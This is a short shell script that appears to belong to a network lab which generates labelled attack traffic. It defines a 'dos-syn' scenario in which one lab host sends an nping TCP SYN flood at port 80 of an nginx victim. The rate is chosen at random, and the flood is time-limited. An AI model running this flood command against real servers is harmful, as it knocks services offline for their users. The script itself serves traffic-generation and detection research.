# SPDX-License-Identifier: MIT
# label: dos-syn
# source: lab-nping
# needs: nping nginx
# seconds: 60
# A neighbour floods a neighbour, at a moderate rate.
. $lab/victims.sh

servers() {
	victim_site d 80
}

scenario() {
	_rate=$(choose 100 250 500)
	setting options "--rate $_rate"
	attack e d tcp 80 -- timeout 20 nping --tcp -p 80 --flags syn --rate "$_rate" \
		-c 1000000 -q -H -N "$(addr d)"
}
